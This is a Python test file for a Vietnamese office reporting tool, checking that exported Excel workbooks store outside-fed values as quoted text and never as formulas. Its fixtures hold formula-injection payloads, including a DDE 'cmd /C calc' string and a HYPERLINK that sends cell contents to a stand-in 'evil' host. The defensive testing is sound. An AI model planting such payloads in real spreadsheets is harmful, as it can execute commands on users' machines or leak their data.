"""No outside text is ever a formula (issue 12, item 2), in every workbook the product writes.

Each workbook is built with hostile values in every field that comes from outside (units.xlsx,
mail, attached files, form specs, round titles), then read as the zip it is: there is no <f>
element at all (the totals are stored numbers), every string cell holds its text with a "'"
before a formula start, and no string cell starts with one.
"""

from __future__ import annotations

import csv
import io
import posixpath
import shutil
import subprocess
import zipfile
from dataclasses import dataclass
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from lxml import etree  # type: ignore[import-untyped]  # no stubs in the venv
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from baocao.app.init import UNITS_HEADER, init_office
from baocao.config.settings import OfficeSettings
from baocao.registry.units import import_units, read_unit_sheet
from baocao.reports.cells import FORMULA_STARTS, REPLACEMENT
from baocao.reports.data import (
    DocumentRef,
    ProblemEntry,
    SummaryData,
    UnitSummary,
    load_summary_data,
)
from baocao.reports.form_template import LISTS_SHEET, META_SHEET, build_form_template, shipped_spec
from baocao.reports.workbook import FIGURES_SHEET, PROBLEMS_SHEET, STATUS_SHEET, build_workbook
from baocao.rules.status import SubmissionFacts, build_status
from baocao.rules.values import RoundInfo, UnitInfo
from parsers.forms import FORM_NOT_NUMBER, load_spec, read_form
from store.models import (
    Attachment,
    FormValue,
    InboundMessage,
    Problem,
    Round,
    RoundTarget,
    Submission,
    Unit,
)

# The hostile values of the issue, one per outside-fed field.
UNIT_NAME = '=HYPERLINK("http://x/","a")'
SHORT_NAME = "-Xã Độc"
ALIAS = "+1+1"
CONTACT = "@SUM(1,2)"
FILE_MINUS = "-2+3.docx"
FILE_CMD = "=cmd|' /C calc'!A0.xlsx"
FILE_CONTROL = "báo\x07cáo\x1b.pdf"  # no NUL: PostgreSQL text cannot hold one
FILE_CONTROL_SHOWN = f"báo{REPLACEMENT}cáo{REPLACEMENT}.pdf"
SUBJECT = "\tBáo cáo 6 tháng"
PROBLEM = "\r=1+1: thiếu chữ ký"
PLACE = "=Sheet1!D7"
FORM_TEXT = "=1+1"
SENDER = "-1+1@evil.example.vn"
REASON = "@lý do"
ROUND_TITLE = '=HYPERLINK("http://evil/?"&A1,"Bấm vào đây")'
DOC_NUMBER, DOC_SYMBOL = "-45", "@BC"
NOTE = "+ghi chú của hệ thống"

OFFICE = OfficeSettings(
    name="Phòng Nội vụ huyện Tân Hưng", place="Tân Hưng",
    summary_to=("noivu@tanhung.example.vn",), signature="Phòng Nội vụ huyện Tân Hưng",
)
NOW = datetime(2025, 6, 2, 3, 30, tzinfo=UTC)
LAST_DAY = date(2025, 5, 30)
HOSTILE_SPEC = load_spec("""
[form]
code = "BIEU_DOC"
title = "=HYPERLINK(\\"http://x/\\",\\"Biểu\\")"
version = "-1"
short = "@Biểu"

[[indicators]]
code = "A1"
label = "-Trong đó: nữ"
unit = "=người"
section = "+I. Mục"

[[indicators]]
code = "A2"
label = "@Kinh phí"
unit = "-triệu đồng"
type = "decimal"
""")

# --- reading a saved .xlsx as XML -----------------------------------------------------------

NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
M = {"m": NS}


@dataclass(frozen=True)
class XmlCell:
    ref: str
    type: str  # the t attribute, "n" when absent
    text: str | None  # of a string cell (shared or inline)
    formula: str | None  # text of its <f>, "" for an empty one


def _string(item: etree._Element) -> str:
    """The text of an <si> or <is>: its runs, without phonetic hints."""
    return "".join(item.xpath("./m:t/text() | ./m:r/m:t/text()", namespaces=M))


def sheets_as_xml(xlsx: bytes) -> dict[str, list[XmlCell]]:
    """Every cell of every worksheet, by sheet name, straight from xl/worksheets/*.xml."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        book = etree.fromstring(z.read("xl/workbook.xml"))
        rels = etree.fromstring(z.read("xl/_rels/workbook.xml.rels"))
        targets = {r.get("Id"): r.get("Target") for r in rels.iter(f"{{{PKG_REL_NS}}}Relationship")}
        shared: list[str] = []
        if "xl/sharedStrings.xml" in z.namelist():
            sst = etree.fromstring(z.read("xl/sharedStrings.xml"))
            shared = [_string(si) for si in sst.iterfind("m:si", M)]
        out: dict[str, list[XmlCell]] = {}
        parts = set()
        for sheet in book.iterfind("m:sheets/m:sheet", M):
            target = targets[sheet.get(f"{{{REL_NS}}}id")]
            part = target.lstrip("/") if target.startswith("/") else posixpath.join("xl", target)
            parts.add(part)
            root = etree.fromstring(z.read(part))
            cells = []
            for c in root.iterfind(".//m:sheetData/m:row/m:c", M):
                kind = c.get("t", "n")
                f, v, inline = c.find("m:f", M), c.find("m:v", M), c.find("m:is", M)
                text = None
                if kind == "s" and v is not None:
                    text = shared[int(v.text or "")]
                elif kind == "inlineStr" and inline is not None:
                    text = _string(inline)
                cells.append(XmlCell(c.get("r", ""), kind, text,
                                     None if f is None else (f.text or "")))
            # Nowhere else in the sheet either (a stray <f> outside sheetData would be a bug too).
            assert len(root.xpath("//*[local-name()='f']")) == sum(
                1 for x in cells if x.formula is not None
            )
            out[sheet.get("name", "")] = cells
        assert parts == {n for n in z.namelist() if n.startswith("xl/worksheets/sheet")}
    return out


def check(xlsx: bytes, formulas: dict[tuple[str, str], str]) -> list[str]:
    """Assert the formula cells are exactly `formulas` and every string cell is safe text;
    return every string cell's text."""
    sheets = sheets_as_xml(xlsx)
    found = {(name, c.ref): c.formula for name, cells in sheets.items() for c in cells
             if c.formula is not None}
    assert found == formulas
    texts = []
    for name, cells in sheets.items():
        for c in cells:
            # Only numbers, dates, booleans and strings: no error cells, no formula results.
            assert c.type in ({"n", "s", "inlineStr", "b", "d"} if c.formula is None else {"n"}), (
                name, c)
            if c.text is not None:
                assert not c.text.startswith(FORMULA_STARTS), (name, c)
                texts.append(c.text)
    return texts


def quoted(texts: list[str], value: str, *, whole: bool = True) -> None:
    """`value` is in a string cell with its "'" (the whole cell, or the start of one)."""
    stored = "'" + value
    assert any(t == stored if whole else t.startswith(stored) for t in texts), (value, texts)


def inside(texts: list[str], value: str) -> None:
    """`value` is in a string cell, after other text (so no "'" is needed)."""
    assert any(value in t and not t.startswith(value) for t in texts), (value, texts)


# --- the summary, from hand-made data ---------------------------------------------------------


def hostile_data(spec: bool = True) -> SummaryData:
    """Two owed units, one with every outside field hostile, and hostile quarantined mail."""
    info = RoundInfo(7, "BC6T-2025", ROUND_TITLE, "periodic", date(2025, 5, 1), LAST_DAY, "",
                     frozenset(), frozenset({"xa"}))
    units = [
        UnitInfo(1, "xa-doc", UNIT_NAME, SHORT_NAME, "xa", ("ubnd@doc.example.vn",), (ALIAS,)),
        UnitInfo(2, "xa-a", "UBND xã An Hòa", None, "xa", ()),
    ]
    files = (FILE_MINUS, FILE_CMD, FILE_CONTROL)
    facts = [
        SubmissionFacts(1, 1, datetime(2025, 5, 28, 2, tzinfo=UTC), True, 0, files, (PROBLEM,)),
        SubmissionFacts(1, 2, datetime(2025, 6, 1, 2, tzinfo=UTC), False, 2, files, (PROBLEM,)),
    ]
    status = build_status(info, units, facts)
    problem = ProblemEntry(UNIT_NAME, datetime(2025, 6, 1, 2, tzinfo=UTC), FILE_CMD, PLACE,
                           PROBLEM, 2)
    no_file = ProblemEntry(UNIT_NAME, datetime(2025, 6, 1, 2, tzinfo=UTC), "", "", PROBLEM, 2)
    quarantined = ProblemEntry(SENDER, datetime(2025, 5, 31, 1, tzinfo=UTC), "", "",
                               f"Thư chờ xem xét, tiêu đề “{SUBJECT}”: {REASON}")
    control = ProblemEntry(FILE_CONTROL, None, FILE_CONTROL, "", FILE_CONTROL)
    summaries = (
        UnitSummary(status.rows[0], "UBND xã, phường, thị trấn",
                    DocumentRef(DOC_NUMBER, DOC_SYMBOL, date(2025, 5, 27)), (problem, no_file),
                    {"A1": Decimal(3), "A2": Decimal("1.5")}),
        UnitSummary(status.rows[1], "UBND xã, phường, thị trấn", None, (), {}),
    )
    return SummaryData(OFFICE, status, summaries, HOSTILE_SPEC if spec else None,
                       (problem, no_file, quarantined, control), NOW, (NOTE,))


def test_summary_workbook_keeps_every_outside_value_as_text() -> None:
    xlsx = build_workbook(hostile_data())
    texts = check(xlsx, {})  # no formula at all, not even the totals
    for value in (UNIT_NAME, FILE_CMD, PLACE, PROBLEM, SENDER, NOTE,
                  f"{DOC_NUMBER}/{DOC_SYMBOL}", "-Trong đó: nữ (=người)",
                  "@Kinh phí (-triệu đồng)"):
        quoted(texts, value)
    quoted(texts, f"{FILE_MINUS}, {FILE_CMD}, {FILE_CONTROL_SHOWN}")  # the "Tệp" column
    inside(texts, f"[lần 2] {FILE_CMD}, {PLACE}: {PROBLEM}")  # "Ghi chú", after "Gửi 2 lần"
    for value in (ROUND_TITLE, SUBJECT, REASON):
        inside(texts, value)
    assert FILE_CONTROL_SHOWN in texts  # control characters replaced, not a crash
    assert not any(ALIAS in t or SHORT_NAME in t for t in texts)  # never shown in the summary

    # openpyxl, like Excel, reads the same workbook back as text, not formulas or errors.
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    assert book.sheetnames == [STATUS_SHEET, FIGURES_SHEET, "Biểu tổng hợp", PROBLEMS_SHEET]
    status = book[STATUS_SHEET]
    assert status["B7"].value == "'" + UNIT_NAME and status["B7"].data_type == "s"
    assert status["F7"].value == f"'{DOC_NUMBER}/{DOC_SYMBOL}"
    assert status["A1"].value == f"TÌNH HÌNH NỘP BÁO CÁO: {ROUND_TITLE}"
    figures = book[FIGURES_SHEET]
    assert figures["C6"].value == 3 and figures["D6"].value == 1.5 and figures["C7"].value == 3
    problems = book[PROBLEMS_SHEET]
    assert [c.value for c in problems[2]][1:] == [
        "'" + UNIT_NAME, datetime(2025, 6, 1, 9), "'" + FILE_CMD, "'" + PLACE, "'" + PROBLEM,
    ]


def test_summary_workbook_without_units_or_form_has_no_formula_at_all() -> None:
    data = hostile_data(spec=False)
    assert check(build_workbook(data), {})
    empty = SummaryData(OFFICE, build_status(data.status.round, [], []), (), HOSTILE_SPEC, (),
                        NOW)
    texts = check(build_workbook(empty), {})  # no units: the totals are a plain 0
    inside(texts, ROUND_TITLE)


# --- the form template --------------------------------------------------------------------------


def test_form_template_keeps_unit_names_and_spec_texts_as_text() -> None:
    names = [UNIT_NAME, ALIAS, CONTACT, FILE_MINUS, "\tTab", "UBND xã An Hòa", "x\x00y"]
    xlsx = build_form_template(HOSTILE_SPEC, names)
    texts = check(xlsx, {})
    for value in (*names[:5], "=HYPERLINK(\"HTTP://X/\",\"BIỂU\")", "-1", "+I. Mục",
                  "-Trong đó: nữ", "=người", "@Kinh phí", "-triệu đồng"):
        quoted(texts, value)
    assert "UBND xã An Hòa" in texts and f"x{REPLACEMENT}y" in texts
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    assert [c.value for c in book[LISTS_SHEET]["A"]] == [
        "'" + n for n in names[:5]] + ["UBND xã An Hòa", f"x{REPLACEMENT}y"]
    assert book[META_SHEET]["B2"].value == "'-1"
    # The drop-down still points at the list of names, whatever they are.
    unit_dv = next(dv for dv in book.worksheets[0].data_validations.dataValidation
                   if dv.type == "list")
    assert unit_dv.formula1 == "DanhSachDonVi"


def test_shipped_form_template_is_unchanged_text() -> None:
    texts = check(build_form_template(shipped_spec(), ["UBND xã Tân Hưng"]), {})
    assert any(t.startswith("Số nội dung công khai") for t in texts)
    assert not any(t.startswith("'") for t in texts)


# --- baocao init ----------------------------------------------------------------------------------


def test_init_writes_no_formula(tmp_path: Path) -> None:
    init_office(tmp_path)
    units = check((tmp_path / "units.xlsx").read_bytes(), {})
    assert list(UNITS_HEADER) == units[:len(UNITS_HEADER)]
    assert check((tmp_path / "bieu01.xlsx").read_bytes(), {})


# --- end to end: units.xlsx and mail in the database, then both workbooks ----------------------


def hostile_units_xlsx() -> bytes:
    """A units list a careless or hostile editor could send: text cells that look like formulas."""
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    rows = [
        UNITS_HEADER,
        ("xa-doc", UNIT_NAME, SHORT_NAME, "Xã, phường, thị trấn", "ubnd@doc.example.vn",
         CONTACT, ALIAS),
        ("xa-a", "UBND xã An Hòa", "Xã An Hòa", "Xã, phường, thị trấn", "ubnd@anhoa.example.vn",
         "", ""),
    ]
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            cell = ws.cell(r, c)
            cell.value = value
            cell.data_type = "s"  # typed as text in Excel ('=…), not a formula
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def filled_form(unit_names: list[str]) -> bytes:
    """The shipped form as a unit sends it back: "=1+1" typed as text in the DC01 value cell."""
    wb = openpyxl.load_workbook(io.BytesIO(build_form_template(shipped_spec(), unit_names)))
    ws = wb.active
    assert ws is not None
    ws["B4"] = "UBND xã An Hòa"
    for row in ws.iter_rows(min_row=6, max_col=4):
        if row[0].value == "DC01":
            row[3].value = FORM_TEXT
            row[3].data_type = "s"
        elif row[0].value == "DC02":
            row[3].value = 4
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_end_to_end_units_mail_and_forms(sessions: sessionmaker[Session]) -> None:
    with sessions() as session, session.begin():
        report = import_units(session, read_unit_sheet(hostile_units_xlsx()))
        assert not report.skipped and report.created == 2
    with sessions() as session:
        names = list(session.scalars(select(Unit.name).where(Unit.active.is_(True))
                                     .order_by(Unit.id)))  # as `baocao form template` does
        stored = session.scalar(select(Unit).where(Unit.code == "xa-doc"))
        assert stored is not None and stored.contact == CONTACT
        assert ALIAS in {a.alias for a in stored.aliases}
    assert names == [UNIT_NAME, "UBND xã An Hòa"]

    template = build_form_template(shipped_spec(), names)
    quoted(check(template, {}), UNIT_NAME)
    form = read_form(shipped_spec(), "biểu.xlsx", filled_form(names))
    (not_number,) = [p for p in form.problems if p.code == FORM_NOT_NUMBER]
    assert f"'{FORM_TEXT}'" in not_number.message and form.values["DC01"].raw == FORM_TEXT

    with sessions() as session, session.begin():
        doc = session.scalar(select(Unit).where(Unit.code == "xa-doc"))
        assert doc is not None
        round_ = Round(code="BC6T-2025", title=ROUND_TITLE, kind="periodic",
                       opens_on=date(2025, 5, 1), due_date=LAST_DAY, last_day=LAST_DAY,
                       form_spec="dan-chu-co-so", targets=[RoundTarget(unit_kind="xa")])
        at = datetime(2025, 5, 28, 2, tzinfo=UTC)
        message = InboundMessage(
            mailbox="INBOX", uidvalidity=1, uid=1, dedup_key="k1", sha256="0" * 64, size=100,
            received_at=at, sender="ubnd@doc.example.vn", subject=SUBJECT, outcome="accepted",
            unit=doc,
        )
        submission = Submission(round=round_, unit=doc, inbound_message=message, version=1,
                                received_at=at, on_time=True, days_late=0)
        session.add_all([round_, message, submission])
        attachments = [
            Attachment(inbound_message=message, submission=submission, filename=name,
                       content_type="application/octet-stream", size=10, sha256="0" * 64,
                       kind=kind, readable=True, doc_number=number, doc_symbol=symbol)
            for name, kind, number, symbol in (
                (FILE_MINUS, "docx", DOC_NUMBER, DOC_SYMBOL), (FILE_CMD, "xlsx", None, None),
                (FILE_CONTROL, "pdf", None, None),
            )
        ]
        message.attachments.extend(attachments)
        session.flush()
        sheet = attachments[1]
        sheet.form_values.extend([
            FormValue(submission_id=submission.id, form_code="BIEU-01-DCCS", indicator=code,
                      number=None if v.value is None else Decimal(v.value),
                      text=v.raw if v.value is None else None,
                      raw=v.raw, place=v.place)
            for code, v in form.values.items() if v.status != "blank"
        ])
        session.add_all([
            Problem(inbound_message=message, submission=submission, attachment_id=sheet.id,
                    code=p.code, text=p.message, place=p.place)
            for p in form.problems
        ] + [
            Problem(inbound_message=message, submission=submission, attachment_id=sheet.id,
                    code="x", text=PROBLEM, place=PLACE),
        ])
        session.add(InboundMessage(
            mailbox="INBOX", uidvalidity=1, uid=2, dedup_key="k2", sha256="0" * 64, size=100,
            received_at=datetime(2025, 5, 29, 1, tzinfo=UTC), sender=SENDER, subject=SUBJECT,
            outcome="quarantined", reason=REASON, unit=doc,
        ))

    with sessions() as session:
        data = load_summary_data(session, "BC6T-2025", OFFICE, NOW)
    assert data.spec is not None
    assert [u.row.unit_name for u in data.units] == [UNIT_NAME, "UBND xã An Hòa"]
    assert data.units[0].figures.get("DC02") == 4 and "DC01" not in data.units[0].figures
    xlsx = build_workbook(data)
    texts = check(xlsx, {})  # the totals are stored numbers
    for value in (UNIT_NAME, FILE_CMD, PLACE, PROBLEM, f"{DOC_NUMBER}/{DOC_SYMBOL}"):
        quoted(texts, value)
    quoted(texts, f"{FILE_MINUS}, {FILE_CMD}, {FILE_CONTROL_SHOWN}")
    quoted(texts, f"{SENDER} ({UNIT_NAME})")  # quarantined mail: who sent it
    quoted(texts, f"{FILE_CMD}, ", whole=False)  # "Ghi chú": the file of the first problem
    for value in (ROUND_TITLE, SUBJECT, REASON, f"'{FORM_TEXT}' không phải là số"):
        inside(texts, value)
    # Aliases and contacts never reach a workbook; if they ever do, check() still guards them.
    assert not any(ALIAS in t or CONTACT in t for t in texts)


# --- what LibreOffice makes of it -----------------------------------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed; CI has it")
def test_libreoffice_reads_the_hostile_summary_as_text(tmp_path: Path) -> None:
    """LibreOffice opens the summary and exports each sheet as CSV: the hostile cells are
    their text (with the "'"), not the results of formulas (a HYPERLINK would export "a")."""
    assert SOFFICE is not None
    source = tmp_path / "tong-hop.xlsx"
    source.write_bytes(build_workbook(hostile_data()))
    # 44,34,76: comma, double quote, UTF-8; the last token -1 writes one file per sheet.
    options = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    subprocess.run(
        [SOFFICE, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless",
         "--convert-to", options, "--outdir", str(tmp_path / "out"), str(source)],
        check=True, capture_output=True, timeout=180,
    )
    rows = {
        path.stem.removeprefix("tong-hop-"): list(csv.reader(
            io.StringIO(path.read_text(encoding="utf-8"), newline="")))
        for path in (tmp_path / "out").glob("*.csv")
    }
    assert set(rows) == {STATUS_SHEET, FIGURES_SHEET, "Biểu tổng hợp", PROBLEMS_SHEET}
    status = rows[STATUS_SHEET][6]
    assert status[1] == "'" + UNIT_NAME and status[5] == f"'{DOC_NUMBER}/{DOC_SYMBOL}"
    assert status[8] == f"'{FILE_MINUS}, {FILE_CMD}, {FILE_CONTROL_SHOWN}"
    assert rows[FIGURES_SHEET][5][2:] == ["3", "1.5"]  # the totals, stored
    problem = rows[PROBLEMS_SHEET][1]
    assert problem[1] == "'" + UNIT_NAME and problem[3:] == [
        "'" + FILE_CMD, "'" + PLACE, "'" + PROBLEM.replace("\r", "\n")]
